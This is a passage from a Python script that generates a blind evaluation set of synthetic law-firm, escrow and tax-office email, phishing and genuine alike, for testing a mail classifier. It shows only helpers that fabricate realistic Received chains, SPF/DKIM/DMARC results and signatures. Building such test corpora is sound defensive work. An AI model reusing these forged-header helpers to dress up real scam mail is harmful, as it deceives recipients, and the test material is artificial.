"""Blind evaluation set 39: mail received in 2024-2026 by small and mid-size law firms, title and escrow
companies, real-estate brokerages, conveyancers and accounting / tax-preparer offices in the US, the UK and
Canada (on Microsoft 365, Google Workspace, or their own Postfix / cPanel hosting), and by their clients:
closing and completion wire fraud, fake e-signature and closing-portal notices, abused partner shares, IRS /
HMRC / CRA and e-filing lures, bar / SRA / Law Society and court e-service impersonation, new-client intake and
overpayment scams, droppers sent as tax documents or subpoenas, abused invoicing platforms, voicemail and fax
HTML attachments and callback invoices, next to the genuine notices, filings, invoices, newsletters and
client correspondence of the same offices.  Run with:
``cd /work/main && .venv/bin/python samples/tools/build_blind39_samples.py``
"""

from __future__ import annotations

import base64
import hashlib
import sys
from datetime import datetime, timedelta, timezone
from email import policy
from email.header import Header
from email.parser import BytesParser
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

sys.path.insert(0, str(Path(__file__).resolve().parent))

import files as F  # noqa: E402
from mime import Leaf, Multi, attachment, message, text  # noqa: E402

N = 39
ROOT = Path(__file__).resolve().parents[2]
MAIL = ROOT / "samples" / "mail"
MANIFEST = ROOT / "samples" / "tools" / f"blind{N}_manifest.txt"

# Maintainer's corrections after the first scan: filed where the engine's classification puts them
# (the names keep the writer's kind).
REFILED: dict[str, str] = {
    "b39-legit-adobe-sign-completed-aps": "clean",
    "b39-legit-cmecf-nef-order": "clean",
    "b39-legit-docusign-closing-package": "clean",
    "b39-legit-ringcentral-voicemail-mp3": "clean",
}

ALNUM = "abcdefghijklmnopqrstuvwxyz0123456789"
UPALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
HEX = "0123456789abcdef"
B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
URLSAFE = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
DIGITS = "0123456789"


# --------------------------------------------------------------------------------------------------------------
# deterministic helpers
# --------------------------------------------------------------------------------------------------------------

def tok(seed: str, n: int, alphabet: str = ALNUM) -> str:
    """A pseudo-random string derived from ``seed``: the same on every run."""
    out: list[str] = []
    counter = 0
    while len(out) < n:
        digest = hashlib.sha256(f"b{N}:{seed}:{counter}".encode()).digest()
        out.extend(alphabet[b % len(alphabet)] for b in digest)
        counter += 1
    return "".join(out[:n])


def guid(seed: str, upper: bool = False) -> str:
    h = tok(seed, 32, HEX)
    g = f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"
    return g.upper() if upper else g


def when(stamp: str) -> datetime:
    """'2025-03-14 09:12:33 -0400' -> aware datetime."""
    return datetime.strptime(stamp, "%Y-%m-%d %H:%M:%S %z")


def rfc(d: datetime) -> str:
    return format_datetime(d)


def utc(d: datetime) -> datetime:
    return d.astimezone(timezone.utc)


def pacific(d: datetime) -> str:
    local = d.astimezone(ZoneInfo("America/Los_Angeles"))
    return format_datetime(local) + f" ({local.tzname()})"


def enc(value: str, charset: str = "utf-8") -> str:
    """RFC 2047-encode a header value when it is not ASCII."""
    try:
        value.encode("ascii")
        return value
    except UnicodeEncodeError:
        return Header(value, charset).encode(maxlinelen=76)


def addr(name: str, email: str, charset: str = "utf-8") -> str:
    if not name:
        return email
    try:
        name.encode("ascii")
        needs_quote = any(c in name for c in ',.;:@()<>[]"&')
        return f'"{name}" <{email}>' if needs_quote else f"{name} <{email}>"
    except UnicodeEncodeError:
        return f"{Header(name, charset).encode()} <{email}>"


def fold_token(prefix: str, value: str, width: int = 72, cont: str = "\t") -> str:
    chunks = [value[i:i + width] for i in range(0, len(value), width)]
    return prefix + ("\n" + cont).join(chunks)


def dkim_sig(seed: str, d: str, s: str, ts: datetime, fields: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type",
             extra: str = "") -> str:
    t = int(ts.timestamp()) - 2
    bh = tok(seed + "bh", 43, B64) + "="
    b = tok(seed + "b", 342, B64) + "=="
    lines = [f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};",
             f"\ts={s}; t={t};{extra} h={fields};",
             f"\tbh={bh};",
             fold_token("\tb=", b)]
    return "\n".join(lines)


def gmail_boundary(seed: str) -> str:
    return "000000000000" + tok(seed, 16, HEX)


def outlook_id(seed: str, host: str) -> str:
    return f"{host}{tok(seed, 20, UPALNUM)}"


def b64url(s: str) -> str:
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


# --------------------------------------------------------------------------------------------------------------
# receiving side: what the recipient's provider adds on top
# --------------------------------------------------------------------------------------------------------------

class Auth:
    """Authentication outcome as the receiver saw it."""

    def __init__(self, mailfrom: str, ip: str, helo: str, rdns: str | None, spf: str,
                 dkim: list[tuple[str, str, str]] | None, dmarc: str | None, from_domain: str,
                 policy_: str = "none"):
        self.mailfrom = mailfrom
        self.ip = ip
        self.helo = helo
        self.rdns = rdns
        self.spf = spf
        self.dkim = dkim or []
        self.dmarc = dmarc
        self.from_domain = from_domain
        self.policy = policy_
        self.mf_domain = mailfrom.split("@")[-1] if mailfrom else helo


def _gmail_spf(a: Auth) -> str:
    mf = a.mailfrom
    return {
        "pass": f"spf=pass (google.com: domain of {mf} designates {a.ip} as permitted sender) smtp.mailfrom={mf}",
        "softfail": f"spf=softfail (google.com: domain of transitioning {mf} does not designate {a.ip} as permitted sender) smtp.mailfrom={mf}",
        "fail": f"spf=fail (google.com: domain of {mf} does not designate {a.ip} as permitted sender) smtp.mailfrom={mf}",
        "neutral": f"spf=neutral (google.com: {a.ip} is neither permitted nor denied by best guess record for domain of {mf}) smtp.mailfrom={mf}",
        "none": f"spf=none (google.com: {mf} does not designate permitted sender hosts) smtp.mailfrom={mf}",
    }[a.spf]


def _gmail_received_spf(a: Auth) -> str:
    mf = a.mailfrom
    return {
        "pass": f"Received-SPF: pass (google.com: domain of {mf} designates {a.ip} as permitted sender) client-ip={a.ip};",
        "softfail": f"Received-SPF: softfail (google.com: domain of transitioning {mf} does not designate {a.ip} as permitted sender) client-ip={a.ip};",
        "fail": f"Received-SPF: fail (google.com: domain of {mf} does not designate {a.ip} as permitted sender) client-ip={a.ip};",
        "neutral": f"Received-SPF: neutral (google.com: {a.ip} is neither permitted nor denied by best guess record for domain of {mf}) client-ip={a.ip};",
        "none": f"Received-SPF: none (google.com: {mf} does not designate permitted sender hosts) client-ip={a.ip};",
    }[a.spf]


def _gmail_results(seed: str, a: Auth) -> list[str]:
    out = []
    for d, s, res in a.dkim:
        hb = tok(seed + d + s, 8, B64)
        out.append(f"dkim={res} header.i=@{d} header.s={s} header.b={hb}")
    out.append(_gmail_spf(a))
    if a.dmarc:
        p = a.policy.upper()
        dis = {"pass": "NONE", "none": "NONE"}.get(a.dmarc, "QUARANTINE" if p == "QUARANTINE" else
                                                  ("REJECT" if p == "REJECT" else "NONE"))
        out.append(f"dmarc={a.dmarc} (p={p} sp={p} dis={dis}) header.from={a.from_domain}")
    return out


def recv_gmail(seed: str, rcpt: str, a: Auth, sent: datetime) -> tuple[list[str], list[str]]:
    r1 = sent + timedelta(seconds=2)
    r2 = r1 + timedelta(seconds=1)
    ipv6ish = f"2002:a05:{tok(seed + 'v6a', 4, HEX)}:{tok(seed + 'v6b', 3, HEX)}:b0:{tok(seed + 'v6c', 3, HEX)}:{tok(seed + 'v6d', 4, HEX)}"
    results = _gmail_results(seed, a)
    ar = "Authentication-Results: mx.google.com;\n       " + ";\n       ".join(results)
    arc_ar = "ARC-Authentication-Results: i=1; mx.google.com;\n       " + ";\n       ".join(results)
    peer = f"{a.rdns}. [{a.ip}]" if a.rdns else f"[{a.ip}]"
    local = r1.astimezone(ZoneInfo("America/Los_Angeles"))
    mx_id = (f"{tok(seed + 'mxa', 11, HEX)}-{tok(seed + 'mxb', 14)}si{tok(seed + 'mxc', 7, DIGITS)}{tok(seed + 'mxd', 3)}"
             f".{int(tok(seed + 'mxe', 3, DIGITS))}.{local.strftime('%Y.%m.%d.%H.%M.%S')}")
    top = [
        f"Delivered-To: {rcpt}",
        f"Received: by {ipv6ish} with SMTP id {tok(seed + 'smtp', 2)}{tok(seed + 'smtpn', 7, DIGITS)}csp{tok(seed + 'x', 7, DIGITS)}{tok(seed + 'y', 3)};",
        f"        {pacific(r2)}",
        f"X-Google-Smtp-Source: AGHT+I{tok(seed + 'gss', 70, B64)}",
        f"X-Received: by {ipv6ish} with SMTP id {tok(seed + 'xr', 16)}.{tok(seed + 'xr2', 3, DIGITS)}.{int(r2.timestamp())}{tok(seed + 'xr3', 3, DIGITS)};",
        f"        {pacific(r2)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={int(r1.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;",
        fold_token("        b=", tok(seed + "arcs", 342, B64) + "==", 66, "        "),
        "ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;",
        "        h=to:subject:message-id:date:from:mime-version:dkim-signature;",
        f"        bh={tok(seed + 'bh', 43, B64)}=;",
        f"        fh={tok(seed + 'fh', 43, B64)}=;",
        fold_token("        b=", tok(seed + "arcm", 342, B64) + "==", 66, "        ") + ";",
        "        dara=google.com",
        arc_ar,
        f"Return-Path: <{a.mailfrom}>",
        f"Received: from {a.helo} ({peer})",
        f"        by mx.google.com with ESMTPS id {mx_id}",
        f"        for <{rcpt}>",
        "        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);",
        f"        {pacific(r1)}",
        _gmail_received_spf(a),
        ar,
    ]
    return top, []


def _ms_host(seed: str, region: str = "namprd") -> str:
    p = tok(seed, 2, "ABCDEFGHJKLMNPQRSTUVWXYZ")
    num = tok(seed + "n", 2, DIGITS)
    suf = tok(seed + "s", 4, DIGITS)
    return f"{p}{tok(seed + 'k', 1, DIGITS)}PR{num}MB{suf}.{region}{num}.prod.outlook.com"


def _ms_results(a: Auth) -> str:
    spf_text = {
        "pass": f"spf=pass (sender IP is {a.ip}) smtp.mailfrom={a.mf_domain}",
        "softfail": f"spf=softfail (sender IP is {a.ip}) smtp.mailfrom={a.mf_domain}",
        "fail": f"spf=fail (sender IP is {a.ip}) smtp.mailfrom={a.mf_domain}",
        "neutral": f"spf=neutral (sender IP is {a.ip}) smtp.mailfrom={a.mf_domain}",
        "none": f"spf=none (sender IP is {a.ip}) smtp.mailfrom={a.mf_domain}",
    }[a.spf]
    if a.dkim:
        d, _s, res = a.dkim[0]
        dkim_text = f"dkim={res} (signature was verified) header.d={d}" if res == "pass" else \
            f"dkim={res} (body hash did not verify) header.d={d}"
    else:
        dkim_text = "dkim=none (message not signed) header.d=none"
    dm = a.dmarc or "none"
    action = {"pass": "none", "none": "none", "bestguesspass": "none"}.get(dm, "quarantine" if a.policy == "quarantine" else
                                                                            ("oreject" if a.policy == "reject" else "none"))
    comp = {"pass": "pass reason=100", "bestguesspass": "pass reason=109", "none": "softpass reason=201"}.get(dm, "fail reason=000")
    if dm == "none" and a.spf != "pass" and not any(r == "pass" for _d, _s, r in a.dkim):
        comp = "fail reason=001"
    return (f"Authentication-Results: {spf_text};\n {dkim_text};dmarc={dm} action={action}\n"
            f" header.from={a.from_domain};compauth={comp}")


def _ms_received_spf(a: Auth) -> str:
    word = a.spf.capitalize() if a.spf != "none" else "None"
    if a.spf == "pass":
        why = f"domain of {a.mf_domain} designates {a.ip} as permitted sender"
    elif a.spf == "none":
        why = f"{a.mf_domain} does not designate permitted sender hosts"
    else:
        why = f"domain of {a.mf_domain} does not designate {a.ip} as permitted sender"
    return (f"Received-SPF: {word} (protection.outlook.com: {why})\n receiver=protection.outlook.com; "
            f"client-ip={a.ip}; helo={a.helo};" + (" pr=C" if a.spf == "pass" else ""))


def recv_m365(seed: str, rcpt: str, a: Auth, sent: datetime, consumer: bool = False,
              region: str = "namprd") -> tuple[list[str], list[str]]:
    r1 = utc(sent + timedelta(seconds=3))
    r2 = r1 + timedelta(seconds=1)
    r3 = r2 + timedelta(seconds=1)
    mailbox = _ms_host(seed + "mbx", region)
    fe_num = tok(seed + "fen", 2, DIGITS)
    fe = (f"{tok(seed + 'fe', 2, 'ABCDEFGHJKLMNPQRSTUVWXYZ')}{tok(seed + 'fe1', 1, DIGITS)}PR{fe_num}CA0"
          f"{tok(seed + 'fe2', 3, DIGITS)}.{region}{fe_num}.prod.outlook.com")
    pepf = f"{tok(seed + 'pe', 3, 'ABCDEFGHJKLMNPRSTVWXYZ')}PEPF0000{tok(seed + 'pf', 4, UPALNUM)}"
    edge = f"{pepf}.{region}{tok(seed + 're', 2, DIGITS)}.prod.outlook.com" if not consumer else \
        f"{pepf}.{region}{tok(seed + 're', 2, DIGITS)}.prod.outlook.com"
    prot = f"{pepf}.mail.protection.outlook.com"
    v6 = f"2603:10b6:{tok(seed + 'v', 3, HEX)}:{tok(seed + 'w', 2, HEX)}::{tok(seed + 'z', 2, HEX)}"
    build = f"15.20.{8 if r1.year >= 2025 else 7}{tok(seed + 'bd', 3, DIGITS)}.{tok(seed + 'bd2', 3, DIGITS)}"
    rdns = a.rdns or a.ip
    top = [
        f"Received: from {mailbox} ({v6}) by\n {_ms_host(seed + 'mbx2', region)} with HTTPS; {rfc(r3)}",
        f"Received: from {fe} ({v6}0)\n by {mailbox} ({v6}) with Microsoft SMTP Server\n"
        f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build};\n {rfc(r2)}",
        f"Received: from {edge}\n ({v6}:cafe::{tok(seed + 'cf', 2, HEX)}) by {fe}\n"
        f" ({v6}0) with Microsoft SMTP Server (version=TLS1_3,\n cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {rfc(r2)}",
        _ms_results(a),
        _ms_received_spf(a),
        f"Received: from {a.helo} ({rdns}) by\n {prot} (10.167.{int(tok(seed + 'ip1', 3, DIGITS)) % 250 + 1}.{int(tok(seed + 'ip2', 2, DIGITS)) + 10}) "
        f"with Microsoft SMTP\n Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}\n via Frontend Transport; {rfc(r1)}",
    ]
    bottom = [
        "Return-Path: " + a.mailfrom,
        f"X-MS-Exchange-Organization-ExpirationStartTime: {r1.strftime('%d %b %Y %H:%M:%S.')}{tok(seed + 'ms', 4, DIGITS)} (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id: {guid(seed + 'nmid')}",
        "X-EOPAttributedMessage: 0",
        "X-EOPTenantAttributedMessage: " + guid(seed + "tenant") + ":0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        "X-MS-PublicTrafficType: Email",
        "X-MS-Exchange-Organization-AuthSource: " + prot.replace(".mail.protection.outlook.com", f".{region}{tok(seed + 're', 2, DIGITS)}.prod.outlook.com"),
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {r1.strftime('%d %b %Y %H:%M:%S.')}{tok(seed + 'ms2', 4, DIGITS)} (UTC)",
        "X-MS-Exchange-Transport-CrossTenantHeadersStamped: " + mailbox.split(".")[0],
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:0" + tok(seed + "lat", 1, "123456") + "." + tok(seed + "lat2", 7, DIGITS),
    ]
    if consumer:
        bottom.insert(0, f"X-IncomingHeaderCount: {tok(seed + 'ihc', 2, '123456789')}")
    return top, bottom


def recv_postfix(seed: str, rcpt: str, a: Auth, sent: datetime, host: str) -> tuple[list[str], list[str]]:
    r1 = (sent + timedelta(seconds=2)).astimezone(ZoneInfo("America/Toronto"))
    qid = tok(seed + "qid", 12, "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz")
    rdns = a.rdns or "unknown"
    lines = [f"Return-Path: <{a.mailfrom}>", f"Delivered-To: {rcpt}",
             f"Received: from localhost (localhost [127.0.0.1])\n\tby {host} (Postfix) with ESMTP id 4{qid[:11]}\n"
             f"\tfor <{rcpt}>; {rfc(r1 + timedelta(seconds=1))}"]
    if a.dmarc:
        lines.append(f"Authentication-Results: {host}; dmarc={a.dmarc} (p={a.policy} dis=none) header.from={a.from_domain}")
    spf_detail = {"pass": "pass", "softfail": "softfail", "fail": "fail", "neutral": "neutral", "none": "none"}[a.spf]
    lines.append(f"Authentication-Results: {host};\n\tspf={spf_detail} smtp.mailfrom={a.mailfrom} smtp.helo={a.helo}")
    for d, s, res in a.dkim:
        lines.append(f"Authentication-Results: {host};\n\tdkim={res} (2048-bit key; unprotected) header.d={d} header.i=@{d}"
                     f" header.a=rsa-sha256 header.s={s} header.b={tok(seed + d, 8, B64)}")
    lines.append(f"Received: from {a.helo} ({rdns} [{a.ip}])\n\tby {host} (Postfix) with ESMTPS id 4{qid[1:12]}\n"
                 f"\tfor <{rcpt}>; {rfc(r1)}")
    return lines, []


def recv_exim(seed: str, rcpt: str, a: Auth, sent: datetime, host: str) -> tuple[list[str], list[str]]:
    r1 = (sent + timedelta(seconds=2)).astimezone(ZoneInfo("America/New_York"))
    eid = f"1{tok(seed + 'e1', 5, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}-{tok(seed + 'e2', 6, UPALNUM)}-{tok(seed + 'e3', 2, UPALNUM)}"
    res = [f"spf={a.spf} smtp.mailfrom={a.mailfrom}"]
    for d, s, r in a.dkim:
        res.append(f"dkim={r} header.d={d} header.s={s} header.a=rsa-sha256")
    if a.dmarc:
        res.append(f"dmarc={a.dmarc} header.from={a.from_domain}")
    rdns = a.rdns or "[" + a.ip + "]"
    lines = [f"Return-path: <{a.mailfrom}>", f"Envelope-to: {rcpt}", f"Delivery-date: {rfc(r1)}",
             f"Authentication-Results: {host};\n\t" + ";\n\t".join(res),
             f"Received: from {rdns} ([{a.ip}]:{40000 + int(tok(seed + 'port', 4, DIGITS))} helo={a.helo})\n"
             f"\tby {host} with esmtps  (TLS1.3) tls TLS_AES_256_GCM_SHA384\n\t(Exim 4.98)\n"
             f"\t(envelope-from <{a.mailfrom}>)\n\tid {eid}\n\tfor {rcpt};\n\t{rfc(r1)}"]
    return lines, []


def recv_yahoo(seed: str, rcpt: str, a: Auth, sent: datetime) -> tuple[list[str], list[str]]:
    r1 = utc(sent + timedelta(seconds=2))
    res = []
    for d, s, r in a.dkim:
        res.append(f"dkim={r} header.i=@{d} header.s={s}")
    res.append(f"spf={a.spf} smtp.mailfrom={a.mf_domain}")
    if a.dmarc:
        res.append(f"dmarc={a.dmarc}(p={a.policy.upper()}) header.from={a.from_domain}")
    lines = [f"X-Apparently-To: {rcpt}; {rfc(r1)}",
             f"Return-Path: <{a.mailfrom}>",
             f"Received-SPF: {a.spf} (domain of {a.mf_domain} designates {a.ip} as permitted sender)"
             if a.spf == "pass" else f"Received-SPF: {a.spf} (domain of {a.mf_domain} does not designate {a.ip} as permitted sender)",
             f"Authentication-Results: atlas{tok(seed + 'at', 3, DIGITS)}.free.mail.bf1.yahoo.com;\n " + ";\n ".join(res) + ";",
             f"X-Originating-IP: [{a.ip}]",
             f"Received: from {a.ip} (EHLO {a.helo})\n by 10.217.{int(tok(seed + 'yi', 3, DIGITS)) % 250 + 1}.{int(tok(seed + 'yj', 2, DIGITS)) + 10}"
             f" with SMTPs\n (version=TLS1_3 cipher=TLS_AES_128_GCM_SHA256);\n {rfc(r1)}"]
    return lines, []


def recv_fastmail(seed: str, rcpt: str, a: Auth, sent: datetime) -> tuple[list[str], list[str]]:
    r1 = (sent + timedelta(seconds=2)).astimezone(ZoneInfo("America/New_York"))
    mx = f"mx{tok(seed + 'mx', 1, '123456')}.messagingengine.com"
    res = []
    for d, s, r in a.dkim:
        res.append(f"dkim={r} (2048-bit rsa key sha256) header.d={d} header.i=@{d}\n    header.b={tok(seed + d, 8, B64)} "
                   f"header.a=rsa-sha256 header.s={s} x-bits=2048")
    if a.dmarc:
        res.append(f"dmarc={a.dmarc} policy.published-domain-policy={a.policy}\n    header.from={a.from_domain}")
    res.append(f"iprev={'pass' if a.rdns else 'fail'} smtp.remote-ip={a.ip} ({a.rdns or 'unknown'})")
    res.append(f"spf={a.spf} smtp.mailfrom={a.mailfrom}\n    smtp.helo={a.helo}")
    lines = [f"Return-Path: <{a.mailfrom}>",
             f"Received: from compute{tok(seed + 'c', 1, '123456')}.internal (compute{tok(seed + 'c', 1, '123456')}.nyi.internal [10.202.2.4{tok(seed, 1, DIGITS)}])\n"
             f"\t by sloti{tok(seed + 'sl', 2, DIGITS)}n{tok(seed + 'sl2', 2, DIGITS)} (Cyrus 3.13.0-alpha0-{tok(seed + 'cy', 4, DIGITS)}-g{tok(seed + 'cyg', 8, HEX)}) with LMTPA;\n"
             f"\t {rfc(r1 + timedelta(seconds=1))}",
             f"X-Cyrus-Session-Id: sloti{tok(seed + 'sl', 2, DIGITS)}n{tok(seed + 'sl2', 2, DIGITS)}-{int(r1.timestamp())}-{tok(seed + 'cs', 7, DIGITS)}-2-{tok(seed + 'cs2', 19, DIGITS)}",
             "X-Sieve: CMU Sieve 3.0",
             f"X-Resolved-to: {rcpt}",
             f"X-Delivered-to: {rcpt}",
             f"Received: from {mx} ({mx.split('.')[0]}.nyi.internal [10.202.2.21{tok(seed, 1, DIGITS)}])\n"
             f"\tby mailmx.nyi.internal (Postfix) with ESMTP id {tok(seed + 'pq', 10, UPALNUM)}\n\tfor <{rcpt}>; {rfc(r1)}",
             f"Authentication-Results: {mx};\n    " + ";\n    ".join(res),
             f"Received: from {a.helo} ({a.rdns or 'unknown'} [{a.ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)\n"
             f"\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)\n"
             f"\t(No client certificate requested)\n\tby {mx} (Postfix) with ESMTPS\n\tfor <{rcpt}>; {rfc(r1)}"]
    return lines, []


def receive(kind: str, seed: str, rcpt: str, a: Auth, sent: datetime) -> tuple[list[str], list[str]]:
    if kind == "gmail":
        return recv_gmail(seed, rcpt, a, sent)
    if kind == "m365":
        return recv_m365(seed, rcpt, a, sent)
    if kind == "m365uk":
        return recv_m365(seed, rcpt, a, sent, region="eurprd")
    if kind == "m365ca":
        return recv_m365(seed, rcpt, a, sent, region="canprd")
    if kind == "outlookcom":
        return recv_m365(seed, rcpt, a, sent, consumer=True)
    if kind == "yahoo":
        return recv_yahoo(seed, rcpt, a, sent)
    if kind == "fastmail":
        return recv_fastmail(seed, rcpt, a, sent)
    if kind.startswith("postfix:"):
        return recv_postfix(seed, rcpt, a, sent, kind.split(":", 1)[1])
    if kind.startswith("exim:"):
        return recv_exim(seed, rcpt, a, sent, kind.split(":", 1)[1])
    raise ValueError(kind)


# --------------------------------------------------------------------------------------------------------------
# assembling one message
# --------------------------------------------------------------------------------------------------------------

MESSAGES: list[tuple[str, str, str, object]] = []


def sample(stem: str, folder: str, description: str):
    def register(fn):
        MESSAGES.append((f"b{N}-{stem}", folder, description, fn))
        return fn
    return register


def assemble(seed: str, *, rcv: str, rcpt: str, auth: Auth, sent: datetime, headers: list[str], body,
             hops: list[str] | None = None, sign: list[tuple[str, str]] | None = None) -> bytes:
    """Receiver lines, the sender's own Received hops, DKIM signatures, then the message's headers."""
    top, bottom = receive(rcv, seed, rcpt, auth, sent)
    block = list(top)
    block.extend(hops or [])
    for d, s in sign or []:
        block.append(dkim_sig(seed + d + s, d, s, sent))
    block.extend(headers)
    block.extend(bottom)
    return message("\n".join(block), body)


def alt(plain: str, html: str, boundary: str, charset: str = "utf-8", enc_: str = "quoted-printable") -> Multi:
    return Multi("alternative", boundary, [text(plain, "plain", enc_, charset), text(html, "html", enc_, charset)])


def mixed(boundary: str, parts: list) -> Multi:
    return Multi("mixed", boundary, parts)


def pdf_att(name: str, lines: list[str], title: str = "", link: tuple[str, tuple[int, int, int, int]] | None = None) -> Leaf:
    return attachment("application/pdf", name, F.pdf(lines, link=link, title=title))


def outlook_headers(seed: str, host: str, topic: str, sent: datetime, has_attach: bool = False,
                    lang: str = "en-US") -> tuple[str, list[str]]:
    """Message-ID and the Exchange-specific headers an Outlook / M365 sender writes."""
    mid = f"<{tok(seed + 'oid', 4, UPALNUM)}PR{tok(seed + 'oid2', 2, DIGITS)}MB{tok(seed + 'oid3', 4, DIGITS)}" \
          f"{tok(seed + 'oid4', 16, UPALNUM)}@{host}>"
    ti = base64.b64encode(hashlib.sha256((seed + "ti").encode()).digest()[:22]).decode()
    extra = [f"Thread-Topic: {enc(topic)}", f"Thread-Index: {ti}",
             f"X-MS-Has-Attach: {'yes' if has_attach else ''}".rstrip(),
             "X-MS-TNEF-Correlator:", f"Accept-Language: {lang}", f"Content-Language: {lang}"]
    if extra[2] == "X-MS-Has-Attach:":
        extra[2] = "X-MS-Has-Attach:"
    return mid, extra


def outlook_html(body_html: str) -> str:
    return ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
            'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
            'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
            '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
            '@font-face\n\t{font-family:"Cambria Math";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n'
            '@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0in;\n\tfont-size:12.0pt;\n'
            '\tfont-family:"Aptos",sans-serif;}\na:link, span.MsoHyperlink\n\t{color:#467886;\n\ttext-decoration:underline;}\n'
            '.MsoChpDefault\n\t{font-size:10.0pt;}\n@page WordSection1\n\t{size:8.5in 11.0in;\n\tmargin:1.0in 1.0in 1.0in 1.0in;}\n'
            'div.WordSection1\n\t{page:WordSection1;}\n--></style>\n</head>\n<body lang="EN-US" link="#467886" vlink="#96607D" '
            'style="word-wrap:break-word">\n<div class="WordSection1">\n' + body_html + '\n</div>\n</body>\n</html>\n')


def paras_html(paras: list[str]) -> str:
    """Outlook-style paragraphs from plain strings (already HTML-safe)."""
    out = []
    for p in paras:
        if p == "":
            out.append('<p class="MsoNormal"><o:p>&nbsp;</o:p></p>')
        else:
            out.append(f'<p class="MsoNormal">{p}<o:p></o:p></p>')
    return "\n".join(out)


def gmail_html(paras: list[str]) -> str:
    inner = "".join(f"<div>{p}</div>" if p else "<div><br></div>" for p in paras)
    return f'<div dir="ltr">{inner}</div>\n'


def html_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --------------------------------------------------------------------------------------------------------------
# common senders: Outlook / Microsoft 365, Gmail / Google Workspace, PHP kits
# --------------------------------------------------------------------------------------------------------------

import html as _html  # noqa: E402
import re as _re  # noqa: E402


def to_plain(fragment: str) -> str:
    s = _re.sub(r"(?i)<br\s*/?>", "\n", fragment)
    s = _re.sub(r"(?i)<a [^>]*href=\"([^\"]+)\"[^>]*>(.*?)</a>", lambda m: m.group(2) if m.group(2).strip() == m.group(1)
                else f"{m.group(2)} <{m.group(1)}>", s)
    s = _re.sub(r"<[^>]+>", "", s)
    return _html.unescape(s)


def _quote_plain_outlook(q: dict) -> str:
    lines = ["", "From: " + q["from"], "Sent: " + q["sent"], "To: " + q["to"]]
    if q.get("cc"):
        lines.append("Cc: " + q["cc"])
    lines.append("Subject: " + q["subject"])
    lines.append("")
    lines.extend(to_plain(p) for p in q["paras"])
    return "\n".join(lines)


def _quote_html_outlook(q: dict) -> str:
    head = (f'<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in">\n'
            f'<p class="MsoNormal"><b><span style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif">From:</span></b>'
            f'<span style="font-size:11.0pt;font-family:&quot;Calibri&quot;,sans-serif"> {html_escape(q["from"])}<br>\n'
            f'<b>Sent:</b> {q["sent"]}<br>\n<b>To:</b> {html_escape(q["to"])}<br>\n')
    if q.get("cc"):
        head += f'<b>Cc:</b> {html_escape(q["cc"])}<br>\n'
    head += f'<b>Subject:</b> {html_escape(q["subject"])}<o:p></o:p></span></p>\n</div>\n'
    return '<div>\n' + head + '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n' + paras_html(q["paras"]) + '\n</div>'


def m365_out_hop(seed: str, sent: datetime, region: str = "namprd") -> str:
    mbx = _ms_host(seed + "smbx", region)
    fe = f"fe80::{tok(seed + 'f1', 4, HEX)}:{tok(seed + 'f2', 4, HEX)}:{tok(seed + 'f3', 4, HEX)}:{tok(seed + 'f4', 4, HEX)}"
    build = f"15.20.{8 if sent.year >= 2025 else 7}{tok(seed + 'sb', 3, DIGITS)}.{tok(seed + 'sb2', 3, DIGITS)}"
    return (f"Received: from {mbx}\n ([{fe}]) by {mbx}\n ([{fe}%{tok(seed, 1, '3456789')}]) with mapi id {build}; {rfc(utc(sent))}")


def m365_out_ip(seed: str, region: str = "namprd") -> tuple[str, str, str]:
    """(ip, helo, rdns) of Exchange Online outbound."""
    n = int(tok(seed + "on", 2, DIGITS)) % 12 + 2
    if region == "eurprd":
        helo = f"EUR0{n % 6 + 1}-AM{n % 7 + 1}-obe.outbound.protection.outlook.com"
        rdns = f"mail-am{n % 7 + 1}eur0{n % 6 + 1}on20{70 + n}.outbound.protection.outlook.com"
    elif region == "canprd":
        helo = f"CAN01-YT{n % 3 + 1}-obe.outbound.protection.outlook.com"
